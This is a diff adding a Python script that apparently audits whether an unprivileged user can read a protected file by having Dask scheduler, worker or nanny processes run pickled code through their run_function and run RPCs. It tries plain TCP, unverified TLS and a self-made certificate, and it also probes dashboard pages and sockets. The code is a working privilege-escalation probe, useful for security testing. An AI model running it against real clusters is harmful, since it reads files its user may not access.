@@ -1,0 +1,108 @@
+"""Has Dask's processes read a file, as a user of this machine who may not; prints what works.
+
+    other_user.py FILE HOST:PORT ... /UNIX/SOCKET ...
+
+Says "code: WHERE HOW" where FILE's text came back, "page: WHERE NAME" of a web server that shows
+one, "socket: WHERE" of any socket of a path (or a name, @NAME). Nothing: all doors are shut.
+"""
+
+import asyncio
+import contextlib
+import http.client
+import itertools
+import os
+import socket
+import ssl
+import sys
+import tempfile
+from pathlib import Path
+
+from distributed import Security
+from distributed.core import rpc
+from distributed.protocol.pickle import dumps
+
+NOBODY = 65534
+SECONDS = 10  # for one answer
+# Of schedulers, and of workers and nannies.
+OPERATIONS = ("run_function", "run")
+# Dask's own, from which pages of others are made, and the dashboard.
+PAGES = ("info/main/workers.html", "json/counts.json", "metrics", "health", "status")
+
+
+def stranger() -> ssl.SSLContext:
+    """Trusts whoever it reaches; a program of one's own can."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    return context
+
+
+def pretender() -> ssl.SSLContext:
+    """Shows a certificate made as Dask makes its own."""
+    context, made = stranger(), Security.temporary()
+    with tempfile.NamedTemporaryFile("w") as file:
+        file.write(made.tls_client_key + made.tls_client_cert)
+        file.flush()
+        context.load_cert_chain(file.name)
+    return context
+
+
+async def read(path: str, address: str, operation: str, context: ssl.SSLContext | None) -> str:
+    """Returns the file's text as a process of Dask reads it, or why there is none."""
+    remote = rpc(address, timeout=SECONDS, connection_args={"ssl_context": context})
+    call = {"function": Path.read_text, "args": (Path(path),), "kwargs": {}}
+    try:
+        parts = {name: dumps(part) for name, part in call.items()}
+        answer = await asyncio.wait_for(getattr(remote, operation)(**parts), SECONDS)
+        return str(answer["result"])
+    except Exception as error:
+        return repr(error)
+    finally:
+        await remote.close_rpc()
+
+
+async def run_code(path: str, ports: list[str], contexts: dict) -> None:
+    """Tries every way into every port at the same time."""
+    ways = list(itertools.product(ports, OPERATIONS, contexts))
+    tries = (
+        read(path, f"{'tls' if contexts[how] else 'tcp'}://{port}", operation, contexts[how])
+        for port, operation, how in ways
+    )
+    for way, text in zip(ways, await asyncio.gather(*tries), strict=True):
+        if "secret" in text:
+            print("code:", *way)
+
+
+def look_at_pages(ports: list[str]) -> set[str]:
+    """Returns the ports that answer as web servers do, if only that there is no such page."""
+    found = set()
+    for port, page in itertools.product(ports, PAGES):
+        asked = http.client.HTTPConnection(port, timeout=SECONDS)
+        with contextlib.closing(asked), contextlib.suppress(OSError, http.client.HTTPException):
+            asked.request("GET", f"/{page}")
+            status = asked.getresponse().status
+            found.add(port)
+            if status != http.client.NOT_FOUND:
+                print("page:", port, page)
+    return found
+
+
+def main() -> None:
+    path, *doors = sys.argv[1:]
+    contexts = {"without TLS": None, "stranger": stranger(), "pretender": pretender()}
+    os.setgroups([])
+    os.setgid(NOBODY)
+    os.setuid(NOBODY)
+    with contextlib.suppress(PermissionError):
+        sys.exit(f"{path}: this user may read it: {Path(path).read_text()}")
+    ports = [door for door in doors if not door.startswith(("/", "@"))]
+    for door in set(doors) - set(ports):
+        with socket.socket(socket.AF_UNIX) as tried:
+            if tried.connect_ex(door.replace("@", "\0", 1)) == 0:
+                print("socket:", door)
+    others = sorted(set(ports) - look_at_pages(ports))  # a web server would let us wait
+    asyncio.run(run_code(path, others, contexts))
+
+
+if __name__ == "__main__":
+    main()
